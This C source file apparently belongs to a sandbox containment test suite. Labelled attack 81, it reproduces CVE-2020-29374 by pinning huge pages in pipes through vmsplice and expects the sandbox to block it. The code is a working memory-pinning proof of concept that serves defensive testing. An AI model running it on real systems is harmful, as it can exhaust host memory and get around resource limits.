// Attack: 81, memory that only pipes hold
// Source: CVE-2020-29374 (Linux: vmsplice keeps pages of its caller)
// Tries: touches large pages, hands one small piece of each to a pipe and gives them back: the pipe keeps the large page, and no process has it.
// Meets: vmsplice is unknown in the box, so a pipe holds only what was copied into it.
// Expect: contained
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

int main(void) {
    const size_t large = 2 << 20;
    int kept = 0;
    for (int i = 0; i < 160; i++) {
        int pipes[2];
        char *page = mmap(NULL, 2 * large, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (page == MAP_FAILED || pipe(pipes))
            break;
        char *aligned = (char *)(((size_t)page + large - 1) & ~(large - 1));
        madvise(aligned, large, MADV_HUGEPAGE);
        memset(aligned, 1, large);
        struct iovec piece = {aligned, 4096};
        kept += vmsplice(pipes[1], &piece, 1, 0) > 0;
        munmap(page, 2 * large);
    }
    if (kept)
        printf("ESCAPED: pipes hold %d large pages\n", kept);
    else
        puts("contained");
    return 0;
}
